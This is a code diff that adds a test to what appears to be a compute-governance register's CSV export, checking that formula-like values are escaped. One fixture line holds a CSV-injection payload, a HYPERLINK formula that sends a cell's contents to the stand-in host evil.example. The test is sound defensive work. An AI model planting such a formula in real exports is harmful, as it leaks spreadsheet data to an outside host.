@@ -1,3 +1,5 @@
+import csv
+import io
 import json
 from io import StringIO
 
@@ -97,3 +99,16 @@ def test_register_csv_lists_entries_with_two_significant_figures(
     row = next(line for line in lines if "aurora-70b" in line and ",gpai," in line)
     assert ",3e+23," in row
     assert "jupiter:big_llm" in row
+
+
+def test_register_csv_never_hands_a_spreadsheet_a_formula(
+    client, reference_data, governance_officer
+):
+    hostile = '=HYPERLINK("http://evil.example/?"&A2,"open")'
+    big = allocation(organisation("FI-REPORT-2"), "jupiter", "big_llm2", 1_000_000, model=hostile)
+    use(big, seconds_for(3e23, "jupiter"))
+    check()
+    response = client_for(client, governance_officer).get("/governance/register.csv")
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    subjects = {row["subject"] for row in rows if row["scope"] == "model"}
+    assert subjects == {"'" + hostile}
